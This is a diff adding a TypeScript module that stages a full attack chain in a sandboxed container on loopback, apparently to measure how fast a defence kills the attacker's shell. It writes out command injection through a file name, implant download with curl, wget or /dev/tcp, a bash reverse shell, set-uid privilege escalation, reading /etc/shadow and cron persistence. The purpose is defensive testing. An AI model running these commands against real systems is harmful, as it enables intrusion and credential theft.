@@ -1,0 +1,98 @@
+import { randomBytes } from 'node:crypto';
+import { once } from 'node:events';
+import { existsSync } from 'node:fs';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { Attacker } from './attacker.ts';
+import { DemoError } from './errors.ts';
+import { Sandbox } from './sandbox.ts';
+
+export interface Step {
+  /** ATT&CK tactic */
+  readonly tactic: string;
+  readonly text: string;
+}
+
+export interface DemoOutcome {
+  /** the sandbox's name: id of its container */
+  readonly container: string;
+  /** ms since the epoch at which the last step was ordered */
+  readonly lastStepAt: number;
+  /** ms from that step until the attacker lost the shell; null: it lived for `waitMs` */
+  readonly stoppedAfterMs: number | null;
+}
+
+export interface ScenarioOptions {
+  readonly containersDir: string;
+  readonly onStep: (step: Step) => void;
+  /** ms between steps. @default 250 */
+  readonly pauseMs?: number;
+  /** ms to wait for the response after the last step. @default 5000 */
+  readonly waitMs?: number;
+  readonly signal?: AbortSignal;
+}
+
+/** Plays the attack in a sandbox of its own, on loopback, and takes all of it away again. Root only. */
+export async function playDemo(options: ScenarioOptions): Promise<DemoOutcome> {
+  await using attacker = await Attacker.listen();
+  await using sandbox = new Sandbox({ id: randomBytes(4).toString('hex'), containersDir: options.containersDir });
+  await sandbox.start();
+  const { onStep, signal } = options;
+  const pause = (): Promise<void> => sleep(options.pauseMs ?? 250, undefined, signal === undefined ? {} : { signal });
+  await pause();
+
+  onStep({ tactic: 'initial-access', text: 'a picture is called "x.png; id": the web server runs it in a shell' });
+  sandbox.request('x.png; id; uname -a');
+  await pause();
+
+  onStep({ tactic: 'command-and-control', text: 'the shell fetches an implant into /tmp and runs it' });
+  sandbox.request(`x.png; ${fetchImplant(attacker.port)}; chmod +x /tmp/.x; ${callHome(attacker.port)}`);
+  const shell = await attacker.shell(10_000);
+
+  onStep({ tactic: 'execution', text: 'the implant connects back: the attacker has a shell' });
+  attacker.say('id');
+  await pause();
+
+  onStep({ tactic: 'privilege-escalation', text: 'a helper with a forgotten set-user-id bit makes the shell root' });
+  attacker.say('exec /opt/shop/backup-helper -p');
+  await pause();
+
+  onStep({ tactic: 'credential-access', text: 'root reads the password hashes' });
+  attacker.say('cat /etc/shadow');
+  await pause();
+
+  onStep({ tactic: 'persistence', text: 'root plants a cron job to come back' });
+  const lastStepAt = Date.now();
+  const started = performance.now();
+  attacker.say("echo '* * * * * root /tmp/.x' > /etc/cron.d/update; while :; do read -t 1 line; done");
+  const stopped = await closedWithin(shell, options.waitMs ?? 5000, signal);
+  return { container: sandbox.name, lastStepAt, stoppedAfterMs: stopped ? performance.now() - started : null };
+}
+
+/** curl or wget where there is one, else the shell's own /dev/tcp. */
+function fetchImplant(port: number): string {
+  const url = `http://127.0.0.1:${port}/implant`;
+  if (existsSync('/usr/bin/curl')) return `curl -s -o /tmp/.x ${url}`;
+  if (existsSync('/usr/bin/wget')) return `wget -q -O /tmp/.x ${url}`;
+  return `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; echo "GET raw" >&3; cat <&3 >/tmp/.x'`;
+}
+
+function callHome(port: number): string {
+  return `/tmp/.x -c "exec 5<>/dev/tcp/127.0.0.1/${port}; exec bash <&5 >&5 2>&5" &`;
+}
+
+async function closedWithin(
+  socket: NodeJS.EventEmitter & { destroyed: boolean },
+  ms: number,
+  signal?: AbortSignal,
+): Promise<boolean> {
+  if (socket.destroyed) return true;
+  try {
+    await once(socket, 'close', {
+      signal: signal === undefined ? AbortSignal.timeout(ms) : AbortSignal.any([signal, AbortSignal.timeout(ms)]),
+    });
+    return true;
+  } catch (error) {
+    if (signal?.aborted) throw new DemoError('stopped', { cause: error });
+    return false;
+  }
+}
